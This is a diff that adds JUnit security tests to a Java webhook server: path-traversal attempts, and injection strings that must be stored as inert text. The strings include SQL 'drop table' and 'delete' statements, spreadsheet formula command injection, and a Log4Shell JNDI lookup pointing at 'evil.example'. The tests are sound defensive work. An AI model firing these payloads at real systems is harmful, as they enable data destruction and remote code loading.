@@ -3,6 +3,10 @@ package fr.vendange.cli;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import ch.qos.logback.classic.Level;
+import ch.qos.logback.classic.Logger;
+import ch.qos.logback.classic.spi.ILoggingEvent;
+import ch.qos.logback.core.read.ListAppender;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.InputStream;
@@ -10,6 +14,7 @@ import java.io.OutputStream;
 import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
+import java.util.List;
 import java.util.Locale;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.AfterEach;
@@ -17,6 +22,9 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.slf4j.LoggerFactory;
 
 /** What strangers send. The answer is a 4xx with one sentence or the end of the connection, and the next call is served. */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
@@ -119,6 +127,84 @@ class HostileCallsTest {
         for (String type : new String[] {"multipart/form-data; boundary=x", "application/x-www-form-urlencoded"}) {
             String answer = call("a=b".getBytes(StandardCharsets.UTF_8), "Content-Type: " + type);
             assertTrue(answer.startsWith("400 {\"error\":\"") && answer.endsWith("\"}"), type + " " + answer);
+        }
+    }
+
+    @Test
+    void whatASenderNamesAPathIsNoWayToAnotherPlace() throws IOException {
+        for (String path : List.of(
+                "/webhooks/brevo/../../etc/passwd",
+                "/webhooks/brevo/%2e%2e/%2e%2e/etc/passwd",
+                "/webhooks/brevo;x=1/",
+                "/webhooks/brevo%00",
+                "/webhooks//brevo",
+                "/webhooks\\brevo",
+                "/WEBHOOKS/BREVO/x",
+                "//webhooks/brevo/x",
+                "http://other/webhooks/x")) {
+            try (Socket socket = new Socket("127.0.0.1", port)) {
+                socket.getOutputStream()
+                        .write(("POST " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer secret\r\n"
+                                        + "Content-Length: 2\r\n\r\n{}")
+                                .getBytes(StandardCharsets.ISO_8859_1));
+                String answer = answer(socket.getInputStream());
+                assertTrue(answer.matches("4\\d\\d \\{\"error\":\"[^\"]+\"\\}"), path + " " + answer);
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "'; drop table inbox; --",
+                "\\\") or 1=1; delete from contact_history where (\\\"",
+                "=cmd|' /C calc'!A1",
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+                "${jndi:ldap://evil.example/x}",
+                "{{env:PATH}} ${sys.java.home} $simple{body}"
+            })
+    void whatLooksLikeACommandIsATextLikeAnyOther(String text) throws Exception {
+        String id = Integer.toHexString(text.hashCode());
+        String event =
+                ("{\"event\":\"click\",\"email\":\"%2$s@b.fr\",\"ts_event\":3,\"message-id\":\"%1$s\",\"subject\":\"%1$s\","
+                                + "\"tag\":\"%1$s\",\"link\":\"%1$s\",\"%1$s\":\"%1$s\",\"id\":\"%2$s\"}")
+                        .formatted(text, id);
+        assertEquals("200 {\"success\": true}", call(event.getBytes(StandardCharsets.UTF_8)));
+
+        String plain = text.replace("\\\"", "\"");
+        String row = plain + "|" + plain + "|" + plain;
+        long deadline = System.nanoTime() + 20_000_000_000L;
+        List<String> stored = List.of();
+        while (!stored.contains(row) && System.nanoTime() < deadline) {
+            stored = installation.query("select subject, campaign, response_details from contact_history");
+        }
+        assertTrue(stored.contains(row), row + " is not stored");
+    }
+
+    @Test
+    void aRefusalIsOneLineOfTheLogWithoutTheSecretOrTheBody() throws IOException {
+        ListAppender<ILoggingEvent> lines = new ListAppender<>();
+        Logger log = (Logger) LoggerFactory.getLogger("fr.vendange");
+        Level usual = log.getLevel();
+        log.setLevel(Level.INFO);
+        lines.start();
+        log.addAppender(lines);
+        try {
+            String call =
+                    "POST /webhooks/brevo?token=query-secret HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer wrong-secret\r\n"
+                            + "Content-Length: 19\r\n\r\n{\"x\":\"body-secret\"}";
+            try (Socket socket = new Socket("127.0.0.1", port)) {
+                socket.getOutputStream().write(call.getBytes(StandardCharsets.ISO_8859_1));
+                assertEquals("401 {\"error\":\"Identification absente ou refusée.\"}", answer(socket.getInputStream()));
+            }
+            List<String> told = lines.list.stream()
+                    .map(ILoggingEvent::getFormattedMessage)
+                    .filter(line -> line.contains("401") || line.contains("secret"))
+                    .toList();
+            assertEquals(List.of("brevo: 401 Identification absente ou refusée."), told);
+        } finally {
+            log.detachAppender(lines);
+            log.setLevel(usual);
         }
     }
 
